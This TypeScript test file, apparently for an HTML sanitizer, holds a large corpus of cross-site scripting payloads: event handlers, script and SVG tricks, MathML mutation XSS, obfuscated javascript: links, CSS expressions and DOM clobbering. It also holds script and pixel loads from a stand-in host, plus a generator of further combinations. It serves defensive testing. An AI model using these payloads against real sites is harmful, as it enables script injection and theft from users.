/**
 * HTML that tries to run scripts. Every text calls `top.ran()` if it succeeds; test pages count the calls. The families
 * are the known attacks; the combinations are generated.
 */
import fc from 'fast-check';

const RUN = 'top.ran()';
/** Separators inside `javascript:` that browsers used to ignore. */
const BROKEN = ['\t', '\n', '\r', '&#9;', '&#x0A;', '&Tab;', '&NewLine;', '\u0000', '\u0001', '&#1;'];

const HANDLERS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x oNeRrOr='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\tsrc=x\nonerror\r=\f${RUN}>`,
  `<img src=x onerror=&#116;op.ran()>`,
  `<img src=x onerror="&#x74;&#x6f;p.ran()">`,
  `<img src="/img/x" onerror="${RUN}" onload="${RUN}">`,
  `<img """><img src=x onerror=${RUN}>`,
  `<IMG SRC=# onmouseover="${RUN}" onerror="${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>x</button>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div tabindex=1 autofocus onfocus=${RUN}>x</div>`,
  `<p onclick=${RUN} onmouseover=${RUN} onpointerenter=${RUN}>x</p>`,
  `<a href="/m" onclick="${RUN}">x</a>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<object data=x onerror=${RUN}></object>`,
  `<embed src=x onerror=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>x</div><style>@keyframes x{}</style>`,
  `<p contenteditable oninput=${RUN} onbeforeinput=${RUN}>x</p>`,
  `<dialog open onclose=${RUN}><form method=dialog></form></dialog>`,
  `<p data-style="color:red" data-x="y" onerror=${RUN}>x</p>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//x.example/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\n>${RUN}</script\n>`,
  `</script><script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script>${RUN}`,
  `<!--><script>${RUN}</script>-->`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<listing><img title="</listing><img src=x onerror=${RUN}>"></listing>`,
  `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
];

const SVG = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${RUN} /></svg>#x"/></svg>`,
  `<svg><image href=x onerror=${RUN}></image></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<svg><font><img src=x onerror=${RUN}></font></svg>`,
  `<svg/onload=${RUN}//`,
  `<svg><discard onbegin=${RUN}></svg>`,
];

const MATHML = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUN}>"></style></h1>`,
  `<math><mtext><mglyph><mglyph><style><!--</style><img title="--></mglyph><img src=1 onerror=${RUN}>"></style></mtext></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${RUN}>">`,
  `<math><p></p><style><!--</style><img src/onerror=${RUN}>--></style></math>`,
];

const FRAMES = [
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4="></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+dG9wLnJhbigpPC9zY3JpcHQ+PC9zdmc+">`,
  `<portal src="javascript:${RUN}"></portal>`,
];

const LINKS = [
  ...BROKEN.map((gap) => `<a href="java${gap}script:${RUN}">x</a>`),
  ...['&#x01;', '\u0001', ' ', '\u00a0', '\u2028', '&#8232;'].map((lead) => `<a href="${lead}javascript:${RUN}">x</a>`),
  `<a href=javascript&colon;${RUN}>x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="javascript://x.example/%0A${RUN}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="blob:https://x.example/1">x</a>`,
  `<a href="view-source:javascript:${RUN}">x</a>`,
  `<a href="/m" xlink:href="javascript:${RUN}">x</a>`,
  `<a href="/m" ping="https://x.example/">x</a>`,
  `<a href="//x.example/">x</a>`,
  `<a href="/\\x.example/">x</a>`,
  `<a href="https://user@x.example/">x</a>`,
  `<area href="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<base href="javascript:${RUN}//">`,
];

const STYLES = [
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<p style="-moz-binding:url(x.xml#x)">x</p>`,
  `<p style="color:red;background-image:url(https://x.example/p.gif)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="color:r/**/ed;font-size:1\\65 xpression(${RUN})">x</p>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<style>@import url(https://x.example/x.css);p{color:red}</style><p>x</p>`,
  `<style>p{background:url("javascript:${RUN}")}</style><p>x</p>`,
  `<style>*{color:red}</style></style><img src=x onerror=${RUN}>`,
  `<style><!--</style><script>${RUN}</script>-->`,
  `<style>p{color:"</style><img src=x onerror=${RUN}>"}</style>`,
  `<div style='"><img src=x onerror=${RUN}>'>x</div>`,
  `<div data-style='color:red"><img src=x onerror=${RUN}>'>x</div>`,
  `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">x</td></tr></table>`,
  `<font color='red"><img src=x onerror=${RUN}>'>x</font>`,
  `<center style="text-align:left;}</style><script>${RUN}</script>">x</center>`,
];

const PICTURES = [
  `<img src="javascript:${RUN}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img src="https://x.example/pixel.gif">`,
  `<img src="//x.example/pixel.gif">`,
  `<img srcset="https://x.example/p.gif 1x" src="/img/x">`,
  `<img dynsrc="javascript:${RUN}" lowsrc="javascript:${RUN}">`,
  `<picture><source srcset="https://x.example/p.gif"><img src=x onerror=${RUN}></picture>`,
  `<input type=image src="javascript:${RUN}">`,
  `<image src=x onerror=${RUN}>`,
  `<img src="/img/../wps/session/logout">`,
];

const CLOBBERING = [
  '<a id=ran></a><a id=ran name=x></a>',
  '<form id=document><input name=cookie></form>',
  '<form name=body><input name=parentNode><input name=attributes></form>',
  '<img name=getElementById><img name=currentScript>',
  '<a id=trustedTypes></a><a id=DOMPurify></a>',
  '<form><input name=nodeName><input name=removeChild><input name=childNodes></form>',
  '<p slot=x is=x id=app>x</p>',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
];

const NESTING = [
  `<a><a><a><b></a><i></b></a></i><img src=x onerror=${RUN}>`,
  `<table><td><table><script>${RUN}</script></table></td></table>`,
  `<table><img src=x onerror=${RUN}></table>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<p><p><p><div></p><svg><p><style><a title="</style><img src=x onerror=${RUN}>">`,
  `${'<div>'.repeat(300)}<img src=x onerror=${RUN}>${'</div>'.repeat(300)}`,
  `${'<b><i>'.repeat(200)}<script>${RUN}</script>`,
  `<ul><li><script>${RUN}</script></ul></li>`,
  `<p title="&lt;script&gt;${RUN}&lt;/script&gt;">&lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  `<p title='"><script>${RUN}</script>'>x</p>`,
];

export const HOSTILE_HTML: Record<string, string[]> = {
  HANDLERS,
  SCRIPTS,
  SVG,
  MATHML,
  FRAMES,
  LINKS,
  STYLES,
  PICTURES,
  CLOBBERING,
  NESTING,
};

/** Generates combinations of the families' parts; the same ones in every run. */
export function generatedHtml(many: number): string[] {
  const names =
    'img svg math p a div table td style iframe video form input template noscript mtext mglyph foreignObject title body details object ImG x-y script';
  const tag = fc.constantFrom(...names.split(' '));
  const gap = fc.constantFrom(' ', '\t', '\n', '/', '\f', ' / ', '');
  const quote = fc.constantFrom('"', "'", '');
  const attribute = fc
    .tuple(
      fc.constantFrom(
        'onerror',
        'onload',
        'href',
        'src',
        'style',
        'data-style',
        'srcdoc',
        'xlink:href',
        'OnFocus',
        'action',
      ),
      quote,
      fc.constantFrom(
        RUN,
        `javascript:${RUN}`,
        `java&#9;script:${RUN}`,
        'x',
        '/img/x',
        `"><img src=x onerror=${RUN}>`,
        `color:red;x:${RUN}`,
      ),
    )
    .map(([name, mark, value]) => `${name}=${mark}${value}${mark}`);
  const opening = fc
    .tuple(tag, fc.array(fc.tuple(gap, attribute), { maxLength: 3 }), fc.constantFrom('>', '/>', '', ' autofocus>'))
    .map(
      ([name, attributes, end]) =>
        `<${name}${attributes.map(([between, each]) => (between || ' ') + each).join('')}${end}`,
    );
  const piece = fc.oneof(
    { weight: 5, arbitrary: opening },
    { weight: 2, arbitrary: tag.map((name) => `</${name}>`) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('<!--', '-->', '<![CDATA[', ']]>', '&lt;', '\u0000', '"', "'>", '<', '</', RUN),
    },
    { weight: 1, arbitrary: fc.constantFrom(...Object.values(HOSTILE_HTML).flat()) },
  );
  const html = fc.array(piece, { minLength: 1, maxLength: 8 }).map((pieces) => pieces.join(''));
  return fc.sample(html, { numRuns: many, seed: 48 });
}
